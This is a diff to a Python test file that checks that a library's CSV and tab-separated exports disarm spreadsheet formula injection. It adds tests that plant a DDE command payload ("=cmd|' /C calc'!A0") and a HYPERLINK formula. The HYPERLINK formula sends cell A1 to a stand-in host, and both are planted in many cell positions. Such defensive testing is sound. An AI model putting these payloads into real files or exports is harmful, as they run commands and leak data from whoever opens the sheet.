@@ -5,13 +5,14 @@ from __future__ import annotations
 import csv
 import io
 import json
+from collections.abc import Callable
 from decimal import Decimal
 from typing import Any
 
 import numpy as np
 import pandas as pd
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
 import offdiagonal as od
@@ -25,8 +26,11 @@ from tests import make_csv_fixtures
 class Formula:
     """An object whose text is a formula."""
 
+    def __init__(self, text: str = "=cmd|' /C calc'!A0") -> None:
+        self.text = text
+
     def __str__(self) -> str:
-        return "=cmd|' /C calc'!A0"
+        return self.text
 
 
 def exported(frame: Any, kind: str = "csv", private: bool = True, **options: Any) -> list[list[str]]:
@@ -56,6 +60,35 @@ def test_formulas_are_disarmed_wherever_they_stand(kind: str, trigger: str, text
     assert head == ["row", "label", "predicted", "text", f"'{trigger}name"]
     assert first == ["0", "'" + attack, "'" + attack, "'" + attack, "'" + attack]
     assert second == ["1", "b", "b", "x", "'" + attack]
+
+
+POSITIONS: dict[str, Callable[[str], dict[str, Any]]] = {
+    "class": lambda attack: {"label": [attack, "b"], "predicted": ["b", attack]},
+    "column": lambda attack: {attack: ["x", "y"]},
+    "level": lambda attack: {"few": [attack, attack]},
+    "text": lambda attack: {"text": [attack, "y"]},
+    "id": lambda attack: {"id": [attack, f"{attack} 2"]},
+    "mixed": lambda attack: {"mixed": column([attack, 1])["values"]},
+    "object": lambda attack: {"objects": column([Formula(attack), Formula(attack)])["values"]},
+    "missing beside it": lambda attack: {"holes": column([None, attack])["values"]},
+}
+
+
+@pytest.mark.parametrize("dialect", ["csv", "text"])
+@pytest.mark.parametrize("position", POSITIONS)
+@pytest.mark.parametrize("trigger", TRIGGERS)
+def test_no_cell_is_a_formula_for_any_reader(trigger: str, position: str, dialect: str) -> None:
+    attack = f'{trigger}HYPERLINK("http://x.invalid/"&A1,"y")'
+    frame = {"label": ["a", "b"], "predicted": ["b", "b"], **POSITIONS[position](attack)}
+    ev = od.Evaluation(frame, prediction="predicted")
+    text = export_rows(ev._engine, np.arange(2), dialect, private=True)
+    separator = "," if dialect == "csv" else "\t"
+    read = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
+    table = pd.read_csv(io.StringIO(text, newline=""), sep=separator, header=None, dtype=str, na_filter=False)
+    assert read == table.to_numpy().tolist()
+    cells = [cell for row in read for cell in row]
+    assert not any(cell.startswith(TRIGGERS) for cell in cells)
+    assert any(cell.startswith("'" + attack) for cell in cells)
 
 
 def test_numbers_stay_numbers() -> None:
@@ -171,6 +204,7 @@ def test_too_much_text_is_refused_with_a_way_out(monkeypatch: pytest.MonkeyPatch
 cells = st.text(alphabet=st.characters(exclude_categories=["Cs"]), max_size=12)
 
 
+@settings(max_examples=300)
 @given(st.lists(st.tuples(cells, cells), min_size=1, max_size=8), st.sampled_from(["csv", "text"]))
 def test_what_is_written_reads_back(rows: list[tuple[str, str]], kind: str) -> None:
     frame = column([text for text, _ in rows]) | {
